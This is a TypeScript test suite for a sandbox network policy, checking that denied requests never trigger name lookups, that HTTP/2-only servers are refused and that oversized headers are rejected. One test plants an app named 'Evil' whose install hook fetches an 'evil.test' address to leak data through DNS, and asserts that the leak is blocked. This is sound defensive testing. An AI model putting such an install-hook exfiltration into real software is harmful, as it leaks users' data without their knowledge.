/** A name that is looked up tells its server something; a protocol that is spoken has bounds. Both are held before the wire. */
import { readFileSync } from "node:fs";
import { createSecureServer } from "node:http2";
import { join } from "node:path";
import { beforeEach, describe, expect, onTestFinished } from "vitest";
import type { NetworkPolicy, ScriptIoRequest } from "../../../sandbox/contract.ts";
import { createSandbox } from "../../../sandbox/sandbox.ts";
import { openNetwork } from "../../../src/adapters/network-policy/open-network.ts";
import { createScriptIo } from "../../../src/adapters/script-io/script-io.ts";
import { it, openWorld } from "../../support/engine/engine-test.ts";
import { settledTask } from "../../support/engine/engine-world.ts";
import { startLoopbackServer } from "../../support/host/loopback-server.ts";
import { rawHook } from "../../support/scripts/scripts.ts";

let seen: string[];
beforeEach(() => {
  seen = [];
});

const network = {
  resolve: async (name: string) => {
    seen.push(name);
    return ["127.0.0.1"];
  },
  ownAddresses: () => [],
  ownPorts: () => [],
};

function ask(policy: Partial<NetworkPolicy>, request: Partial<ScriptIoRequest> & { readonly url: string }) {
  const session = openNetwork(
    {
      policy: { lanIp: "127.0.0.1", lanPorts: async () => [8096], internet: true, readOnly: false, ...policy },
      loopback: true,
      responseBytes: 100_000,
      audit: () => {},
    },
    network,
  );
  onTestFinished(() => session.close());
  const whole = { method: "GET", headers: [], redirect: "follow", body: null, ...request } as const;
  return session.fetch(whole, new AbortController().signal);
}

describe("a name is not looked up", () => {
  it.each<[string, Partial<NetworkPolicy>, Partial<ScriptIoRequest> & { readonly url: string }]>([
    ["for another scheme", {}, { url: "ftp://secret.test/" }],
    ["for a web socket", {}, { url: "wss://secret.test/" }],
    ["for a port nobody publishes", {}, { url: "http://secret.test:8097/" }],
    ["for port 0", {}, { url: "http://secret.test:0/" }],
    ["for a widget's POST", { readOnly: true }, { url: "https://secret.test/", method: "POST" }],
    ["with the internet off", { internet: false }, { url: "https://secret.test/" }],
    ["with the internet off, at an app's port", { internet: false }, { url: "http://secret.test:8096/" }],
    ["with a user name in the address", {}, { url: "https://anna@secret.test/" }],
  ])("%s", async (_, policy, request) => {
    expect(await ask(policy, request)).toMatchObject({ error: { code: "policy_denied" } });
    expect(seen).toEqual([]);
  });

  it("for the next hop of a redirect either", async () => {
    const app = await startLoopbackServer((_, response) =>
      response.writeHead(302, { location: "http://secret.test:25/" }).end(),
    );
    onTestFinished(() => app.close());
    const answer = await ask({ lanPorts: async () => [app.port] }, { url: app.url });
    expect(answer).toMatchObject({ error: { code: "policy_denied" } });
    expect(seen).toEqual([]);
  });

  it("but where an app's port is asked for, once", async () => {
    const app = await startLoopbackServer();
    onTestFinished(() => app.close());
    const url = `http://nas.local:${app.port}/`;
    expect(await ask({ lanPorts: async () => [app.port] }, { url })).toMatchObject({ ok: { head: { status: 200 } } });
    expect(seen).toEqual(["nas.local"]);
  });
});

describe("the script of a custom app", () => {
  it("can't tell a name server anything: the internet is off for it", async () => {
    const sandbox = createSandbox({ scriptIo: createScriptIo({ loopback: true, network }) });
    onTestFinished(() => sandbox.close());
    const scriptContent = `export async function run() {
      for (const url of ["https://a-secret.evil.test/", "http://a-secret.evil.test:8096/"]) await fetch(url).catch(() => {});
    }`;
    const hook = rawHook({ id: "tells", events: ["onAfterInstall"], rerun: undefined, scriptContent });
    const metadata = {
      name: "Evil",
      description: "x",
      icon: "https://x.test/i.svg",
      version: "1.0.0",
      categories: ["media"],
    };
    const world = await openWorld({
      catalog: { evil: { custom: true, metadata, hooks: [hook] } },
      engine: { sandbox },
    });
    const { id } = await world.engine.install("evil");
    expect(await settledTask(world.engine, id)).toMatchObject({
      state: "COMPLETED",
      children: [{ state: "COMPLETED" }],
    });
    expect(seen).toEqual([]);
  });
});

describe("a server that offers HTTP/2", () => {
  const FIXTURES = join(import.meta.dirname, "../../host/fixtures");
  const keys = {
    key: readFileSync(join(FIXTURES, "host-key.pem")),
    cert: readFileSync(join(FIXTURES, "host-cert.pem")),
  };

  async function serve(allowHTTP1: boolean) {
    const versions: string[] = [];
    const server = createSecureServer({ ...keys, allowHTTP1 }, (request, response) => {
      versions.push(request.httpVersion);
      response.end("ok");
    });
    await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
    onTestFinished(() => new Promise((resolve) => server.close(() => resolve())));
    const address = server.address();
    if (address === null || typeof address === "string") throw new Error("the server has no port");
    return { versions, port: address.port };
  }

  it("is spoken to in HTTP/1.1", async () => {
    const { versions, port } = await serve(true);
    const answer = await ask({ lanPorts: async () => [port] }, { url: `https://127.0.0.1:${port}/` });
    expect(answer).toMatchObject({ ok: { head: { status: 200 } } });
    expect(versions).toEqual(["1.1"]);
  });

  it("and nothing else is not spoken to", async () => {
    const { versions, port } = await serve(false);
    const answer = await ask({ lanPorts: async () => [port] }, { url: `https://127.0.0.1:${port}/` });
    expect(answer).toHaveProperty("error");
    expect(versions).toEqual([]);
  });
});

describe("a response's head", () => {
  it.each([
    ["of one line of 64 KB", [["x-long", "x".repeat(65_536)]]],
    ["of 5,000 lines", Array.from({ length: 5_000 }, (_, at) => [`x-${at}`, "value"])],
  ])("%s is refused", async (_, lines) => {
    const app = await startLoopbackServer((_, response) => {
      response.writeHead(200, lines.flat());
      response.end();
    });
    onTestFinished(() => app.close());
    const answer = await ask({ lanPorts: async () => [app.port] }, { url: app.url });
    expect(answer).toMatchObject({ error: { code: "UND_ERR_HEADERS_OVERFLOW" } });
  });
});
